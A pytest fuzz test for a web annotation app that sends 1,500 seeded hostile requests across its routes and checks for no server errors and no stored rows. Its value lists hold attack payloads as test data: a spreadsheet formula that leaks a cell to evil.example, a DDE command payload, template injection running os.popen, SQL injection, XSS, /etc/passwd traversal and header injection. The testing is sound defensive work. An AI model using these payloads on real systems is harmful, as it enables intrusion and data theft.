"""The review's probes (issue 27), generated: bad form posts, ids, paths and headers
against every route, as the lead, a rater and an anonymous visitor.

A seeded generator (the same 1,500 requests every run) builds each request
from hostile values chosen here: ids beyond the database's integers, digits
of other scripts, formula starts, template syntax, overlong fields, broken
encodings, forged proxy headers. No answer may be a 5xx and nothing may be
stored: every table has as many rows after the probes as before.

Left out on purpose: posts that are valid by construction would change state
(logging out, the rater's own password form); no value below is a valid score,
count, id of an existing row or token.
"""

from __future__ import annotations

import random
import re
from collections import Counter

from sqlalchemy import func, select
from sqlmodel import Session, SQLModel
from werkzeug.datastructures import MultiDict

from annotator.db import get_engine, session_scope
from annotator.study.studies import create_lead
from tests.conftest import LEAD_EMAIL, LEAD_PASSWORD

from .conftest import blocks_of, item_url, join, start

PROBES = 1500
SEED = 27

HOSTILE_IDS = [
    "0",
    "2147483648",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "1" + "0" * 30,
    "-1",
    "abc",
    "1.5",
    "٣",
    "３",
    "%00",
    "%2e%2e",
    "1%0a",
]
HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "٣",
    "３",
    "𝟑",
    "١٠",
    "1e309",
    "nan",
    "-inf",
    "-0.001",
    "5.001",
    "1,2,3",
    '=HYPERLINK("http://evil.example/?"&A1, "x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{min.__class__.__mro__}",
    "' OR 1=1 --",
    "../../etc/passwd",
    "\r\nX-Injected: 1",
    "null",
    "[]",
    "a" * 2001,
    "é" * 1500,
    "\u202e\u0000\ufeff",
    "2147483648",
    "9223372036854775808",
    "-1",
    "0",
]
HOSTILE_SLUGS = ["x", "RT", "../rt", "rt%00", "a" * 300, "%ff", "٣"]
FIELDS = [
    "score",
    "count",
    "decision",
    "confirmed",
    "username",
    "password",
    "reason",
    "where",
    "format",
    "scale",
    "benchmark",
    "temperature",
    "runs",
    "gender",
    "age",
    "field",
    "csrf_token",
    "next",
    "PROLIFIC_PID",
    "assignmentId",
    "workerId",
    "hitId",
]
HEADERS = [
    {"HX-Request": "true"},
    {"X-Forwarded-For": "1.2.3.4, \u00ff, ::1"},
    {"X-Forwarded-Proto": "gopher"},
    {"X-Forwarded-Host": "evil.example"},
    {"Accept-Language": "\u00e9" * 50},
    {"If-Modified-Since": "not a date"},
    {"Range": "bytes=999999999-"},
    {"Referer": "javascript:alert(1)"},
    {"Content-Type": "multipart/form-data"},
    {"X-HTTP-Method-Override": "DELETE"},
]
RAW_BODIES = [
    (b"\xff\xfe\x00score=1", "application/x-www-form-urlencoded"),
    (b"score=%ZZ&count=%", "application/x-www-form-urlencoded"),
    (b'{"score": 3', "application/json"),
    (b"--x\r\nContent-Disposition: form-data; name=score\r\n\r\n3", "multipart/form-data"),
    (b"a=" + b"&a=".join([b"1"] * 1200), "application/x-www-form-urlencoded"),
]
# Posts left out: they change the visitor's state when sent as they are.
SKIPPED_POSTS = {"auth.logout", "rate.account"}
_PARAMETER = re.compile(r"<(?:(\w+)(?:\([^)]*\))?:)?(\w+)>")


# Computations, not stored input: the lead's study page keeps its dashboard as a job's
# result, and a lead's report or export request starts (or joins) a job.
COMPUTED = {"job", "jobresult"}


def _row_counts(app) -> dict[str, int]:
    with Session(get_engine(app)) as session:
        return {
            name: session.execute(select(func.count()).select_from(table)).scalar_one()
            for name, table in SQLModel.metadata.tables.items()
            if name not in COMPUTED
        }


def _fill(rule: str, rng: random.Random, real: dict[str, list[str]]) -> str:
    def value(match) -> str:
        converter, name = match.group(1), match.group(2)
        if converter in ("id", "int"):
            pool = HOSTILE_IDS + real.get(name, [])
        elif name == "slug":
            pool = HOSTILE_SLUGS + real["slug"]
        elif converter == "path":
            pool = ["../../etc/passwd", "%2e%2e/%2e%2e/x", "app.js%00", "vendor/", "a" * 300]
        else:
            pool = HOSTILE_TEXT[:20] + ["x" * 64]
        return rng.choice(pool)

    return _PARAMETER.sub(value, rule)


def _form(rng: random.Random):
    pairs = [(rng.choice(FIELDS), rng.choice(HOSTILE_TEXT)) for _ in range(rng.randint(0, 4))]
    return MultiDict(pairs)


def test_hostile_requests_get_no_5xx_and_store_nothing(app, client, study):
    with session_scope(app) as session:
        create_lead(session, LEAD_EMAIL, LEAD_PASSWORD)
    lead = app.test_client()
    assert (
        lead.post("/login", data={"username": LEAD_EMAIL, "password": LEAD_PASSWORD}).status_code
        == 302
    )
    rater = join(app, client, study.slug)
    block = blocks_of(app, rater)[0]
    assert start(client, block.id).status_code == 302
    assert client.get(item_url(block.id, 1)).status_code == 200
    anonymous = app.test_client()
    clients = {"lead": lead, "rater": client, "anonymous": anonymous}
    # The rater's own block and places: the score posts reach the parser.
    real = {"slug": [study.slug], "block_id": [str(block.id)], "position": ["1", "2"]}

    rules = [
        (rule.rule, rule.endpoint, sorted(rule.methods - {"HEAD", "OPTIONS"}))
        for rule in app.url_map.iter_rules()
    ]
    before = _row_counts(app)
    rng = random.Random(SEED)
    statuses: Counter = Counter()
    failures = []
    for _ in range(PROBES):
        path, endpoint, methods = rng.choice(rules)
        method = rng.choice(methods)
        if method == "POST" and endpoint in SKIPPED_POSTS:
            method = "GET" if "GET" in methods else None
        if method is None:
            continue
        role = rng.choice(list(clients))
        url = _fill(path, rng, real)
        if rng.random() < 0.3:
            url += "?" + "&".join(
                f"{rng.choice(FIELDS)}={rng.choice(HOSTILE_IDS)}" for _ in range(2)
            )
        headers = rng.choice(HEADERS) if rng.random() < 0.4 else {}
        kwargs = {"headers": headers}
        if method == "POST":
            if rng.random() < 0.15:
                body, content_type = rng.choice(RAW_BODIES)
                kwargs.update(data=body, content_type=content_type)
            else:
                kwargs["data"] = _form(rng)
        response = clients[role].open(url, method=method, **kwargs)
        statuses[response.status_code] += 1
        if response.status_code >= 500:
            failures.append((role, method, url, kwargs, response.status_code))
        response.close()
    assert failures == [], failures[:5]
    assert sum(statuses.values()) >= 1000
    assert _row_counts(app) == before
    # The probes reach the views, not only the router: 200s, 302s and 4xx of several kinds.
    assert {200, 302, 404}.issubset(statuses) and len(statuses) >= 5, statuses
